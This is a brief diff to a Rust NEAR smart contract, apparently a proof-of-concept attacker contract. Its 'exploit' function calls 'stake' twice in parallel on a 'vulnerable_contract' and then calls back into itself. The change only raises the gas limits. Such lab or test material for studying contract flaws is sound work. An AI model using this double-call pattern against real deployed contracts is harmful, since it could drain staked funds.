@@ -24,11 +24,11 @@ impl Default for Contract {
 impl Contract {
     pub fn exploit(addr: AccountId, amount: U128) -> Promise {
         vulnerable_contract::ext(addr.clone())
-            .with_static_gas(Gas(30 * TGAS))
+            .with_static_gas(Gas(50 * TGAS))
             .stake("test.near".parse().unwrap(), amount)
             .and(
                 vulnerable_contract::ext(addr)
-                    .with_static_gas(Gas(30 * TGAS))
+                    .with_static_gas(Gas(50 * TGAS))
                     .stake("test.near".parse().unwrap(), amount)
                     .then(
                         Self::ext(env::current_account_id())